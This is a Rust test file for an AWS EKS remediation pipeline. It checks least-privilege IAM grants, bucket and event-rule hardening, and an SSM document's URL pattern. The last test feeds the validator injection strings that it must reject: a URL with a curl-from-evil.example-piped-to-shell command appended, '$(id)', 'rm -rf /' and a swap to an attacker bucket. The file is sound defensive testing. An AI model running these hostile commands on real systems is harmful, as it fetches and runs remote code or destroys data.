//! Least privilege, read from the template as CloudFormation will get it (`infra/translate.py`, so
//! the roles and rules SAM generates are included). moto enforces neither IAM conditions nor
//! resource-level permissions on pre-signed requests, so these are checked statement by statement
//! here: every Allow of every role and managed policy must be in the table below (action, resource,
//! condition); a new permission fails this test until it is added here on purpose. The upload URL
//! itself is exercised against moto in `adapters.rs`.

#![allow(clippy::expect_used, clippy::unwrap_used)] // tests fail by panicking

mod common;

use std::collections::BTreeSet;

use common::translated_template;
use serde_json::Value;

/// A template value as text: `Fn::Sub` strings as written, `Fn::GetAtt` as `X.Attr`, `Ref` as `!Ref X`.
fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Object(m) if m.contains_key("Fn::Sub") => text(&m["Fn::Sub"]),
        Value::Object(m) if m.contains_key("Fn::GetAtt") => {
            let a = m["Fn::GetAtt"].as_array().unwrap();
            format!("{}.{}", text(&a[0]), text(&a[1]))
        }
        Value::Object(m) if m.contains_key("Ref") => format!("!Ref {}", text(&m["Ref"])),
        other => other.to_string(),
    }
}

fn list(v: &Value) -> Vec<Value> {
    match v {
        Value::Array(a) => a.clone(),
        Value::Null => vec![],
        v => vec![v.clone()],
    }
}

/// Statements with `Fn::If` opened: both branches count (whichever a deployment picks).
fn statements(doc: &Value) -> Vec<Value> {
    let mut out = Vec::new();
    for s in list(&doc["Statement"]) {
        match s.get("Fn::If") {
            Some(branches) => {
                for b in &branches.as_array().unwrap()[1..] {
                    if b.get("Ref").is_none() {
                        out.push(b.clone());
                    }
                }
            }
            None => out.push(s),
        }
    }
    out
}

/// (policy owner, effect, action, resource, condition) of every IAM statement in the stack.
fn grants(t: &Value) -> BTreeSet<(String, String, String, String, String)> {
    let mut out = BTreeSet::new();
    for (id, r) in t["Resources"].as_object().unwrap() {
        let docs: Vec<Value> = match r["Type"].as_str().unwrap() {
            "AWS::IAM::Role" => list(&r["Properties"]["Policies"])
                .into_iter()
                .map(|p| p["PolicyDocument"].clone())
                .collect(),
            "AWS::IAM::ManagedPolicy" => vec![r["Properties"]["PolicyDocument"].clone()],
            _ => continue,
        };
        for doc in docs {
            for s in statements(&doc) {
                // NotResource (an exception to a Deny) reads as "NOT <resource>".
                let resources: Vec<String> = match s.get("NotResource") {
                    Some(not) => list(not)
                        .iter()
                        .map(|r| format!("NOT {}", text(r)))
                        .collect(),
                    None => list(&s["Resource"]).iter().map(text).collect(),
                };
                for action in list(&s["Action"]) {
                    for resource in &resources {
                        let condition = s
                            .get("Condition")
                            .map(|c| c.to_string())
                            .unwrap_or_default();
                        out.insert((
                            id.clone(),
                            text(&s["Effect"]),
                            text(&action),
                            resource.clone(),
                            condition,
                        ));
                    }
                }
            }
        }
    }
    out
}

const TAG_CONDITION: &str = r#"{"Fn::If":["HasClusterAllowList",{"StringEquals":{"ssm:resourceTag/eks:cluster-name":{"Ref":"ClusterAllowList"}}},{"StringLike":{"ssm:resourceTag/eks:cluster-name":"*"}}]}"#;
const INSTANCES: &str = "arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:instance/*";

/// (role or policy, effect, actions, resource, condition): every IAM statement the stack may have.
type Grant = (
    &'static str,
    &'static str,
    &'static [&'static str],
    &'static str,
    &'static str,
);

const TABLE_RW: &[&str] = &[
    "dynamodb:UpdateItem",
    "dynamodb:PutItem",
    "dynamodb:GetItem",
];
const OWN_QUEUE_ONLY: &[&str] = &[
    "sqs:ReceiveMessage",
    "sqs:DeleteMessage",
    "sqs:GetQueueAttributes",
    "sqs:ChangeMessageVisibility",
];
const BUCKET_CHECKS: &[&str] = &["s3:GetBucketPolicyStatus", "s3:GetBucketAcl"];
const NODE_NEVER: &[&str] = &[
    "s3:PutObject",
    "s3:DeleteObject",
    "s3:DeleteObjectVersion",
    "s3:PutObjectTagging",
];

#[rustfmt::skip]
const WANT: &[Grant] = &[
    // Watchers: read EC2/EKS, fold into the table, enqueue collections.
    ("ThrottleWatcherFunctionRole", "Allow", &["ec2:DescribeInstances"], "*", ""),
    ("ThrottleWatcherFunctionRole", "Allow", &["eks:ListClusters", "eks:DescribeCluster"], "*", ""),
    ("ThrottleWatcherFunctionRole", "Allow", TABLE_RW, "IncidentTable.Arn", ""),
    ("ThrottleWatcherFunctionRole", "Allow", &["sqs:SendMessage"], "CollectionQueue.Arn", ""),
    ("ThrottleWatcherFunctionRole", "Deny", OWN_QUEUE_ONLY, "NOT ThrottleQueue.Arn", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", &["ec2:DescribeInstances", "ec2:DescribeInstanceTypes", "autoscaling:DescribeTags"], "*", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", &["autoscaling:CompleteLifecycleAction"], "arn:${AWS::Partition}:autoscaling:${AWS::Region}:${AWS::AccountId}:autoScalingGroup:*:autoScalingGroupName/${NodeGroupPrefix}*", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", &["eks:DescribeNodegroup"], "arn:${AWS::Partition}:eks:${AWS::Region}:${AWS::AccountId}:nodegroup/*/*/*", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", &["events:PutEvents"], "FindingsBus.Arn", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", TABLE_RW, "IncidentTable.Arn", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", &["sqs:SendMessage"], "CollectionQueue.Arn", ""),
    ("ScaleUpWatcherFunctionRole", "Allow", &["sqs:SendMessage"], "FunctionDLQ.Arn", ""),
    ("EbsAlarmWatcherFunctionRole", "Allow", &["ec2:DescribeInstances", "ec2:DescribeVolumes"], "*", ""),
    ("EbsAlarmWatcherFunctionRole", "Allow", TABLE_RW, "IncidentTable.Arn", ""),
    ("EbsAlarmWatcherFunctionRole", "Allow", &["sqs:SendMessage"], "CollectionQueue.Arn", ""),
    ("EbsAlarmWatcherFunctionRole", "Allow", &["sqs:SendMessage"], "FunctionDLQ.Arn", ""),
    // Collector: its own document only, on EKS nodes only; writes bundle keys only (its pre-signed
    // URLs act with this); the automation method's extras.
    ("CollectorFunctionRole", "Allow", &["ssm:SendCommand"], "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:document/${CollectionDocument}", ""),
    ("CollectorFunctionRole", "Allow", &["ssm:SendCommand"], INSTANCES, TAG_CONDITION),
    ("CollectorFunctionRole", "Allow", &["s3:PutObject"], "${BundleBucket.Arn}/bundles/*/eks_i-*.tar.gz", ""),
    ("CollectorFunctionRole", "Allow", &["ssm:StartAutomationExecution"], "arn:${AWS::Partition}:ssm:${AWS::Region}::automation-definition/AWSSupport-CollectEKSInstanceLogs:*", ""),
    ("CollectorFunctionRole", "Allow", &["iam:PassRole"], "AutomationRole.Arn", r#"{"StringEquals":{"iam:PassedToService":"ssm.amazonaws.com"}}"#),
    ("CollectorFunctionRole", "Allow", &["s3:ListBucket"], "BundleBucket.Arn", r#"{"StringLike":{"s3:prefix":["eks_i-*","bundles/*"]}}"#),
    ("CollectorFunctionRole", "Allow", &["s3:GetObject", "s3:DeleteObject"], "${BundleBucket.Arn}/eks_i-*", ""),
    ("CollectorFunctionRole", "Allow", TABLE_RW, "IncidentTable.Arn", ""),
    ("CollectorFunctionRole", "Allow", &["sqs:SendMessage"], "FunctionDLQ.Arn", ""),
    ("CollectorFunctionRole", "Deny", OWN_QUEUE_ONLY, "NOT CollectionQueue.Arn", ""),
    // Analyzer: reads bundles, writes the two reports, reads EC2/EKS, records, publishes.
    ("BundleAnalyzerFunctionRole", "Allow", &["s3:GetObject"], "${BundleBucket.Arn}/bundles/*", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["s3:PutObject"], "${BundleBucket.Arn}/bundles/*/report.json", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["s3:PutObject"], "${BundleBucket.Arn}/bundles/*/report.html", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["ec2:DescribeInstances", "ec2:DescribeInstanceTypes"], "*", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["eks:DescribeCluster", "eks:DescribeAddon", "eks:DescribeAddonVersions"], "*", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["dynamodb:UpdateItem", "dynamodb:GetItem"], "IncidentTable.Arn", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["events:PutEvents"], "FindingsBus.Arn", ""),
    ("BundleAnalyzerFunctionRole", "Allow", &["sqs:SendMessage"], "FunctionDLQ.Arn", ""),
    // Notifier: its views in the table, each configured target's secret (decrypted only through
    // Parameter Store), the Q topic.
    ("NotifierFunctionRole", "Allow", &["dynamodb:GetItem", "dynamodb:PutItem"], "IncidentTable.Arn", ""),
    ("NotifierFunctionRole", "Allow", &["dynamodb:Query"], "${IncidentTable.Arn}/index/quiet", ""),
    ("NotifierFunctionRole", "Allow", &["s3:GetObject"], "${BundleBucket.Arn}/bundles/*/report.html", ""),
    ("NotifierFunctionRole", "Deny", OWN_QUEUE_ONLY, "NOT NotifyQueue.Arn", ""),
    ("NotifierFunctionRole", "Allow", &["ssm:GetParameter"], "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter${SlackBotTokenParameter}", ""),
    ("NotifierFunctionRole", "Allow", &["ssm:GetParameter"], "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter${SlackWebhookParameter}", ""),
    ("NotifierFunctionRole", "Allow", &["ssm:GetParameter"], "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter${TeamsWebhookParameter}", ""),
    ("NotifierFunctionRole", "Allow", &["ssm:GetParameter"], "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter${WebhookParameter}", ""),
    ("NotifierFunctionRole", "Allow", &["kms:Decrypt"], "arn:${AWS::Partition}:kms:${AWS::Region}:${AWS::AccountId}:key/*", r#"{"StringEquals":{"kms:ViaService":{"Fn::Sub":"ssm.${AWS::Region}.amazonaws.com"}}}"#),
    ("NotifierFunctionRole", "Allow", &["sns:Publish"], "!Ref QTopicArn", ""),
    // Remediator: its state in the table, reports, the bus; reads for plans; each write only on
    // its own resource kind, and (in the template) only where that kind's rung may write.
    ("RemediatorFunctionRole", "Deny", OWN_QUEUE_ONLY, "NOT RemedyQueue.Arn", ""),
    ("RemediatorFunctionRole", "Allow", &["dynamodb:GetItem", "dynamodb:PutItem", "dynamodb:UpdateItem", "dynamodb:DeleteItem", "dynamodb:ConditionCheckItem"], "IncidentTable.Arn", ""),
    ("RemediatorFunctionRole", "Allow", &["s3:GetObject"], "${BundleBucket.Arn}/bundles/*/report.json", ""),
    ("RemediatorFunctionRole", "Allow", &["events:PutEvents"], "FindingsBus.Arn", ""),
    ("RemediatorFunctionRole", "Allow", &["servicequotas:ListServiceQuotas", "servicequotas:ListAWSDefaultServiceQuotas", "servicequotas:GetServiceQuota", "servicequotas:GetAWSDefaultServiceQuota", "servicequotas:GetRequestedServiceQuotaChange", "servicequotas:ListRequestedServiceQuotaChangeHistory", "servicequotas:ListRequestedServiceQuotaChangeHistoryByQuota", "eks:DescribeAddonConfiguration", "eks:DescribeAddonVersions", "ec2:DescribeVolumes", "ec2:DescribeVolumesModifications", "ec2:DescribeInstances"], "*", ""),
    ("RemediatorFunctionRole", "Allow", &["eks:DescribeCluster", "eks:DescribeAddon", "eks:DescribeUpdate", "eks:ListUpdates"], "arn:${AWS::Partition}:eks:${AWS::Region}:${AWS::AccountId}:cluster/*", ""),
    ("RemediatorFunctionRole", "Allow", &["eks:DescribeCluster", "eks:DescribeAddon", "eks:DescribeUpdate", "eks:ListUpdates"], "arn:${AWS::Partition}:eks:${AWS::Region}:${AWS::AccountId}:addon/*/vpc-cni/*", ""),
    ("RemediatorFunctionRole", "Allow", &["servicequotas:RequestServiceQuotaIncrease"], "arn:${AWS::Partition}:servicequotas:${AWS::Region}:${AWS::AccountId}:*", ""),
    ("RemediatorFunctionRole", "Allow", &["eks:UpdateAddon"], "arn:${AWS::Partition}:eks:${AWS::Region}:${AWS::AccountId}:addon/*/vpc-cni/*", ""),
    ("RemediatorFunctionRole", "Allow", &["ec2:ModifyVolume"], "arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:volume/*", r#"{"Null":{"aws:ResourceTag/eks:cluster-name":"false"}}"#),
    ("RemediatorFunctionRole", "Allow", &["support:CreateCase"], "*", ""),
    // Slack interactivity: its signing secret, its replay items, the remediation queue.
    ("SlackInteractivityFunctionRole", "Allow", &["ssm:GetParameter"], "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter${SlackSigningSecretParameter}", ""),
    ("SlackInteractivityFunctionRole", "Allow", &["kms:Decrypt"], "arn:${AWS::Partition}:kms:${AWS::Region}:${AWS::AccountId}:key/*", r#"{"StringEquals":{"kms:ViaService":{"Fn::Sub":"ssm.${AWS::Region}.amazonaws.com"}}}"#),
    ("SlackInteractivityFunctionRole", "Allow", &["dynamodb:PutItem"], "IncidentTable.Arn", ""),
    ("SlackInteractivityFunctionRole", "Allow", &["sqs:SendMessage"], "RemedyQueue.Arn", ""),
    // Nodes: no standing write under bundles/ (denied outright); the runbook's root upload only.
    ("NodeUploadPolicy", "Deny", NODE_NEVER, "${BundleBucket.Arn}/bundles/*", ""),
    ("NodeUploadPolicy", "Allow", &["s3:PutObject"], "${BundleBucket.Arn}/eks_i-*", ""),
    ("NodeUploadPolicy", "Allow", BUCKET_CHECKS, "BundleBucket.Arn", ""),
    // The runbook's role: AWS's runbook runs AWS-RunShellScript, on EKS nodes only.
    ("AutomationRole", "Allow", &["ssm:SendCommand"], "arn:${AWS::Partition}:ssm:${AWS::Region}::document/AWS-RunShellScript", ""),
    ("AutomationRole", "Allow", &["ssm:SendCommand"], INSTANCES, TAG_CONDITION),
    ("AutomationRole", "Allow", &["ssm:DescribeInstanceInformation", "ssm:GetCommandInvocation", "ssm:ListCommands", "ssm:ListCommandInvocations", "ec2:DescribeInstances"], "*", ""),
    ("AutomationRole", "Allow", BUCKET_CHECKS, "BundleBucket.Arn", ""),
];

#[test]
fn every_permission_is_the_least_the_pipeline_needs() {
    let t = translated_template();
    let got = grants(&t);
    let want: BTreeSet<(String, String, String, String, String)> = WANT
        .iter()
        .flat_map(|(who, effect, actions, resource, condition)| {
            actions.iter().map(move |a| {
                (
                    who.to_string(),
                    effect.to_string(),
                    a.to_string(),
                    resource.to_string(),
                    condition.to_string(),
                )
            })
        })
        .collect();
    // AWS managed policies SAM attaches: logs for all; the SQS one (any queue) only with an SQS
    // trigger, cut down to the function's own queue by the Deny above.
    for (id, r) in t["Resources"].as_object().unwrap() {
        if r["Type"] != "AWS::IAM::Role" {
            continue;
        }
        let managed: Vec<String> = list(&r["Properties"]["ManagedPolicyArns"])
            .iter()
            .map(text)
            .collect();
        let sqs_triggered = [
            "ThrottleWatcherFunctionRole",
            "CollectorFunctionRole",
            "NotifierFunctionRole",
            "RemediatorFunctionRole",
        ]
        .contains(&id.as_str());
        for arn in &managed {
            let name = arn.rsplit('/').next().unwrap();
            assert!(
                name == "AWSLambdaBasicExecutionRole"
                    || (sqs_triggered && name == "AWSLambdaSQSQueueExecutionRole"),
                "{id}: {arn}"
            );
        }
    }
    let extra: Vec<_> = got.difference(&want).collect();
    let missing: Vec<_> = want.difference(&got).collect();
    assert!(
        extra.is_empty() && missing.is_empty(),
        "not in the table: {extra:#?}\nin the table, not granted: {missing:#?}"
    );
    // Whatever the table says: nothing but reads on "*", and the stock shell document for the runbook only.
    for (who, effect, action, resource, _) in &got {
        if resource == "*" && effect == "Allow" {
            let verb = action.split(':').nth(1).unwrap();
            // AWS Support has no resource-level permissions; the grant exists only with
            // SupportPlan=true and an acting SupportCaseMode.
            let support_case = action == "support:CreateCase" && who == "RemediatorFunctionRole";
            assert!(
                support_case
                    || ["Describe", "List", "Get"]
                        .iter()
                        .any(|r| verb.starts_with(r)),
                "{who}: {action} on *"
            );
        }
        if resource.ends_with("document/AWS-RunShellScript") {
            assert_eq!(who, "AutomationRole");
        }
    }
}

/// Reports are the analyzer's alone (bucket policy), pre-signed URLs are short-lived, old
/// versions are kept for a while, and every EventBridge rule target has a DLQ and retries.
#[test]
fn bucket_rules_and_event_targets_are_hardened() {
    let t = translated_template();
    let res = t["Resources"].as_object().unwrap();
    let policy = &res["BundleBucketPolicy"]["Properties"]["PolicyDocument"];
    let sids: BTreeSet<String> = statements(policy).iter().map(|s| text(&s["Sid"])).collect();
    assert!(
        sids.is_superset(
            &[
                "TlsOnly",
                "ReportsOnlyFromAnalyzer",
                "PresignedUrlsAreShortLived"
            ]
            .map(String::from)
            .into()
        ),
        "{sids:?}"
    );
    let reports = statements(policy)
        .into_iter()
        .find(|s| s["Sid"] == "ReportsOnlyFromAnalyzer")
        .unwrap();
    assert_eq!(
        text(&reports["Condition"]["ArnNotEquals"]["aws:PrincipalArn"]),
        "BundleAnalyzerFunctionRole.Arn"
    );
    let bucket = &res["BundleBucket"]["Properties"];
    assert_eq!(bucket["VersioningConfiguration"]["Status"], "Enabled");
    assert!(list(&bucket["LifecycleConfiguration"]["Rules"])
        .iter()
        .any(|r| r.get("NoncurrentVersionExpiration").is_some()));

    let mut rules = 0;
    for (id, r) in res.iter().filter(|(_, r)| r["Type"] == "AWS::Events::Rule") {
        rules += 1;
        for target in list(&r["Properties"]["Targets"]) {
            // The notifier's schedule dead-letters to the notifier's own DLQ.
            let dlq = if id == "ResolveCheckRule" {
                "NotifyDLQ.Arn"
            } else {
                "EventsDLQ.Arn"
            };
            assert_eq!(text(&target["DeadLetterConfig"]["Arn"]), dlq, "{id}");
            assert!(
                target["RetryPolicy"]["MaximumRetryAttempts"]
                    .as_u64()
                    .is_some(),
                "{id}"
            );
        }
    }
    // Seven event triggers, the remediation rule and its follow-up schedule, the notifier's
    // resolve check.
    assert_eq!(rules, 10);
    assert!(
        res["BundleAnalyzerFunction"]["Properties"]["ReservedConcurrentExecutions"].is_object()
    );
}

/// The collection document: a Command document whose every parameter is typed and pinned by
/// `allowedPattern`. The URL pattern accepts what the collector pre-signs for real AWS (signed
/// offline here) and nothing that could leave the script's quotes or point elsewhere.
#[tokio::test]
async fn collection_document_takes_only_this_buckets_upload_urls() {
    let t = translated_template();
    let doc = &t["Resources"]["CollectionDocument"]["Properties"];
    assert_eq!(doc["DocumentType"], "Command");
    assert_eq!(doc["Content"]["schemaVersion"], "2.2");
    let params = doc["Content"]["parameters"].as_object().unwrap();
    for (name, p) in params {
        assert_eq!(p["type"], "String", "{name}");
        assert!(
            p.get("allowedPattern").is_some(),
            "{name} has no allowedPattern"
        );
    }
    let bucket = "eks-remedy-bundlebucket-1a2b3c4d5e6f";
    let pattern = text(&params["UploadUrl"]["allowedPattern"])
        .replace("${BundleBucket}", bucket)
        .replace("${AWS::Region}", "us-east-1")
        .replace("${AWS::URLSuffix}", "amazonaws.com");
    let re = regex::Regex::new(&pattern).unwrap();

    let s3 = aws_sdk_s3::Client::from_conf(
        aws_sdk_s3::Config::builder()
            .behavior_version(aws_sdk_s3::config::BehaviorVersion::latest())
            .region(aws_sdk_s3::config::Region::new("us-east-1"))
            .credentials_provider(aws_sdk_s3::config::Credentials::new(
                "ASIAEXAMPLEEXAMPLE",
                "secret",
                Some("IQoJb3JpZ2luX2VjE+token/with=padding".into()),
                None,
                "test",
            ))
            .build(),
    );
    let key = "bundles/prod_cluster.v2/i-0abc12345def67890/prod_cluster.v2:throttling:20261019T0500/eks_i-0abc12345def67890_2026-10-19_0512-UTC.tar.gz";
    let url = eks_remedy_aws::ssm::upload_url(&s3, bucket, key)
        .await
        .unwrap();
    assert!(re.is_match(&url), "{url}\n!~ {pattern}");
    // Signed over the host only, with no checksum of an (empty) body: S3 would refuse the real
    // bundle's PUT against a checksum computed at signing time.
    let query = url.split_once('?').unwrap().1.to_ascii_lowercase();
    assert!(query.contains("x-amz-signedheaders=host&"), "{query}");
    assert!(!query.contains("checksum"), "{query}");
    let ok = url.clone();
    for hostile in [
        ok.replacen("https://", "http://", 1),
        ok.replacen(bucket, "attacker-bucket", 1),
        ok.replacen("/bundles/", "/report/", 1),
        format!("{ok}'; curl evil.example | sh; '"),
        format!("{ok}$(id)"),
        format!("{ok}\"x"),
        format!("{ok} x"),
        format!("{ok}\nrm -rf /"),
        ok.replacen(".tar.gz?", ".sh?", 1),
    ] {
        assert!(!re.is_match(&hostile), "accepted: {hostile}");
    }
    assert!(re.is_match(&ok));
    let timeout = regex::Regex::new(&text(&params["ExecutionTimeout"]["allowedPattern"])).unwrap();
    assert!(timeout.is_match("1800") && !timeout.is_match("1800; reboot"));
}
